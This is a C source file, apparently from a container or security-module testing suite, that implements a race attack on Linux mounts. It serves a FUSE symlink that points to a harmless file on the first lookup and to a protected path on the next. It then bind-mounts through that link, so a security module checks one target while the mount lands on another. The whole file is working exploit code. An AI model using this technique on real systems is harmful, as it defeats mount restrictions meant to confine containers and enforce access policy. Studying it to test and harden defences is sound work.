/* What is looked up twice: once when a security module is asked, once when it is done. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <unistd.h>

/* Not <sys/mount.h>: it clashes with <linux/mount.h> in glibc before 2.37. */
int mount(const char *source, const char *target, const char *type, unsigned long flags,
	  const void *data);

/* As unshare --mount-proc mounts it. */
#define PLAIN (MS_NOSUID | MS_NODEV | MS_NOEXEC)
#define LINKS "/mnt/attack-links"
#define FUSE_NODE "/dev/attack-fuse"
#define OWN "/mnt/attack-own"

static void reply(int fuse, unsigned long id, int error, void *data, int size)
{
	struct fuse_out_header head = {sizeof(head) + size, error, id};
	struct iovec parts[] = {{&head, sizeof(head)}, {data, size}};

	if (writev(fuse, parts, size ? 2 : 1) < 0)
		_exit(1);
}

static struct fuse_attr attributes(unsigned long node)
{
	struct fuse_attr attr = {.ino = node, .nlink = 1, .blksize = 4096};

	attr.mode = node == FUSE_ROOT_ID ? S_IFDIR | 0755 : S_IFLNK | 0777;
	return attr;
}

/* A file system with one link in it, which leads elsewhere each time that it is asked again. */
static void serve(int fuse, const char *first, const char *then)
{
	static char buffer[1 << 18];
	const char *to = first;

	while (read(fuse, buffer, sizeof(buffer)) > 0 || errno == EINTR) {
		struct fuse_in_header *in = (void *)buffer;
		struct fuse_init_out init = {.major = 7, .minor = 31, .max_write = 1 << 16};
		struct fuse_attr_out attr = {.attr = attributes(in->nodeid)};
		struct fuse_entry_out entry = {.nodeid = 2, .attr = attributes(2)};

		switch (in->opcode) {
		case FUSE_INIT:
			reply(fuse, in->unique, 0, &init, sizeof(init));
			break;
		case FUSE_GETATTR:
			reply(fuse, in->unique, 0, &attr, sizeof(attr));
			break;
		case FUSE_LOOKUP:
			reply(fuse, in->unique, 0, &entry, sizeof(entry));
			break;
		case FUSE_READLINK:
			reply(fuse, in->unique, 0, (void *)to, strlen(to));
			to = then;
			break;
		case FUSE_FORGET:
		case FUSE_BATCH_FORGET:
			break;
		default:
			reply(fuse, in->unique, -ENOSYS, NULL, 0);
		}
	}
	_exit(0);
}

static int links(const char *first, const char *then)
{
	char options[64];
	int fuse;

	if (mknod(FUSE_NODE, S_IFCHR | 0600, makedev(10, 229)) && errno != EEXIST)
		return -1;
	fuse = open(FUSE_NODE, O_RDWR | O_CLOEXEC);
	if (fuse < 0)
		return -1;
	make_target(LINKS);
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", fuse);
	if (mount("attack", LINKS, "fuse", 0, options))
		return -1;
	if (fork() == 0)
		serve(fuse, first, then);
	return close(fuse);
}

/* One's own file or folder is asked for; bound is row->what, of the same kind. */
int by_bind_race(const struct row *row)
{
	struct stat kind, bound;

	/* Those that can be written: LXC's own are read-only in privileged containers. (A second sysfs
	 * comes to the same place in a network namespace of its own.) */
	if (unshare(CLONE_NEWNET) || mount("none", "/proc", "proc", PLAIN, NULL) ||
	    mount("none", "/sys", "sysfs", PLAIN, NULL))
		perror("its own proc and sysfs");
	if (stat(row->what, &kind))
		return -1;
	if (S_ISDIR(kind.st_mode)) {
		make_target(OWN);
		make_target(row->where);
	} else {
		make_target("/mnt");
		if (close(open(OWN ".file", O_CREAT | O_RDONLY | O_CLOEXEC, 0600)) ||
		    close(open(row->where, O_CREAT | O_RDONLY | O_CLOEXEC, 0600)))
			return -1;
	}
	if (links(S_ISDIR(kind.st_mode) ? OWN : OWN ".file", row->what))
		return -1;
	/* Where nobody is asked, the link is looked up once, and leads there from then on. */
	for (int tries = 0; tries < 2; tries++) {
		if (mount(LINKS "/link", row->where, NULL, MS_BIND, NULL) || stat(row->where, &bound))
			return -1;
		if (bound.st_dev == kind.st_dev && bound.st_ino == kind.st_ino)
			return open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	}
	errno = EACCES;
	return -1;
}
